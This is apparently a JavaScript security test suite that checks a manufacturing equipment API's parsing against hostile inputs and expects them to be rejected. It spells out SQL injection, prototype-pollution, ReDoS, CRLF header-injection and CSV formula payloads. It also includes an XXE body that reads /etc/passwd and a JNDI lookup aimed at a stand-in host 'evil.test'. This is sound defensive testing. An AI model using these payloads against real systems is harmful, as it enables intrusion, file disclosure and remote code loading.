/** Parsing: queries, bodies, header fields, texts. */
import { first, statuses, unless } from './target.mjs';

const M1 = 'north.M1';
const noServerError = async (answers) => {
  const found = await Promise.all(answers);
  const bad = found.find(({ status }) => status >= 500);
  return unless(!bad, `${bad?.status}: ${bad?.text}`);
};
const observe = (target, more) =>
  target.post('/equipment/observe-equipment-state', { equipmentId: M1, state: 'Idle', ...more }, target.tokens.device);
const hold = (target, reason) =>
  target.post('/material-lot/hold-lot', { lotId: 'north.L1', holdId: `h${Math.random()}`.replace('.', ''), reason }, target.tokens.quality);

export const checks = [
  [
    'C26',
    'SQL in filters, orders, cursors',
    async (target) => {
      const sql = ["' OR 1=1--", "state'; DROP TABLE x;--", '1 UNION SELECT 1', '%', '_', "\\'"];
      const { all, south } = target.tokens;
      const asked = (value) => encodeURIComponent(value);
      const wrong = await noServerError(
        sql.flatMap((value) =>
          ['sort', 'after', 'state', 'facilityId', 'elementId', 'waitFor', 'first'].map((name) =>
            target.get(`/equipment?${name}=${asked(value)}`, all),
          ),
        ),
      );
      const wild = await target.get(`/equipment?elementId=${asked('%')}`, south);
      return first(wrong, unless(!wild.text.includes('north.'), 'a wildcard matches'));
    },
  ],
  [
    'C27',
    'objects and lists where a text is expected',
    async (target) => {
      const values = [{ $ne: 1 }, [], ['north.M1'], { _type: 'not' }, 7, true];
      const bodies = values.map((equipmentId) => target.post('/equipment/reset-equipment', { equipmentId }, target.tokens.operator));
      const queries = ['/equipment?state[$ne]=Idle', '/equipment?state[]=Idle', '/equipment?state=Idle&state=Held'].map((path) =>
        target.get(path, target.tokens.operator),
      );
      return first(await statuses(400, bodies), await statuses(400, queries));
    },
  ],
  [
    'C28',
    'prototype pollution',
    async (target) => {
      const bodies = ['{"__proto__":{"x":1}}', '{"constructor":{"prototype":{"x":1}}}', '{"__pro\\u0074o__":{"x":1}}'];
      const asked = bodies.map((body) => target.send('POST', '/equipment/reset-equipment', { token: target.tokens.operator, body }));
      return first(await statuses(400, asked), await statuses(400, [target.get('/equipment?__proto__[x]=1', target.tokens.operator)]));
    },
  ],
  ['C29', 'a parameter twice', async (target) => statuses(400, [target.get('/equipment?first=1&first=2', target.tokens.operator)])],
  [
    'C30',
    'numbers and texts that parsers interpret differently',
    async (target) => {
      const raw = ['{"a":1,"a":2}', '{"a":1e400}', '{"a":9007199254740993}', '{"a":NaN}', '\ufeff{}', '{"a":"\\ud800"}', '{"a":"\\u0000"}'];
      const bodies = raw.map((body) => target.send('POST', '/equipment/reset-equipment', { token: target.tokens.operator, body }));
      const texts = ['\u0000', '\u202egnp', '\u200b', '\u0085', '\u2066x'].map((reason) => hold(target, `x${reason}`));
      return first(await statuses(400, bodies), await statuses(400, texts));
    },
  ],
  [
    'C31',
    'content types',
    async (target) => {
      const types = [
        'application/json garbage',
        'text/plain',
        'application/json; charset=utf-7',
        'application/x-www-form-urlencoded',
        'multipart/form-data; boundary=x',
        'application/graphql',
      ];
      return statuses(
        415,
        types.map((type) => target.send('POST', '/equipment/reset-equipment', { token: target.tokens.operator, body: '{}', type })),
      );
    },
  ],
  [
    'C32',
    'texts that slow regular expressions down',
    async (target) => {
      const before = target.cpu();
      const long = ['a'.repeat(60_000), `${'a.'.repeat(20_000)}!`, `${' '.repeat(50_000)}x`, `${'1'.repeat(50_000)}.`];
      await Promise.all(
        long.flatMap((value) => [observe(target, { equipmentId: value }), observe(target, { occurredAt: value }), hold(target, value)]),
      );
      const used = target.cpu() - before;
      return unless(used < 1_500, `${used} ms of CPU for 12 requests`);
    },
  ],
  [
    'C33',
    'line breaks in header fields',
    async (target) => {
      const names = ['x-correlation-id', 'idempotency-key', 'if-match'];
      const send = (name) =>
        target.raw(`GET /me HTTP/1.1\r\nHost: ${target.host}\r\n${name}: a b\tc"\r\n evil: 1\r\nConnection: close\r\n\r\n`);
      const answers = await Promise.all(names.map(send));
      const bad = answers.find((answer) => !/^HTTP\/1.1 40[01]/.test(answer) || /^evil:/im.test(answer));
      return unless(!bad, bad?.slice(0, 200));
    },
  ],
  [
    'C34',
    'formulas in exports',
    async (target) => {
      const names = ['=1+1', '+1+1', '-1+1', '@x', ';=1', '\t=1', '|x'];
      for (const [n, name] of names.entries())
        await target.post(
          '/equipment/register-equipment',
          { equipmentId: `north.F${n}`, name, equipmentClass: 'lathe' },
          target.tokens.engineer,
        );
      let text = '';
      for (const end = Date.now() + 15_000; !text.includes('north.F6') && Date.now() < end;)
        ({ text } = await target.get('/equipment.csv?facilityId=north', target.tokens.analyst));
      const cells = text.split(/[\r\n,;\t]+/);
      const formula = cells.find((cell) => /^"?\s*[=+@|]/.test(cell));
      return first(
        unless(text.includes('north.F0'), 'the machines are not in the export'),
        unless(!formula, `a cell begins with ${formula}`),
      );
    },
  ],
  [
    'C35',
    'XML with external entities',
    async (target) => {
      const body = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>';
      const types = ['application/xml', 'text/xml', 'application/soap+xml'];
      return statuses(
        415,
        types.map((type) => target.send('POST', '/equipment/reset-equipment', { token: target.tokens.operator, body, type })),
      );
    },
  ],
  ['C36', 'paths in uploads', 'the api accepts no files; the importer reads the files that its user names'],
  ['C37', 'URLs that the server would fetch', 'the server fetches no URL from a client; the URL of the signing keys is a setting'],
  [
    'C38',
    'names of streams',
    async (target) => {
      const ids = ['$all', '$$north.M1', 'north.M1-x/..', 'north.😀', 'north.', '.M1', 'north.M1\u0000', 'equipment-north.M1', '../x'];
      return statuses(
        400,
        ids.map((equipmentId) => target.post('/equipment/reset-equipment', { equipmentId }, target.tokens.operator)),
      );
    },
  ],
  [
    'C39',
    'templates are plain text',
    async (target) => {
      const reason = '${jndi:ldap://evil.test/x} {{7331*3}} <%= 7 %> <script>alert(1)</script>';
      const done = await hold(target, reason);
      const history = await target.get('/audit/history?entity=material-lot-north.L1', target.tokens.auditor);
      return first(
        unless(done.status === 200, done.text),
        unless(history.text.includes('{{7331*3}}') && !history.text.includes('21993'), 'the text was changed'),
      );
    },
  ],
];
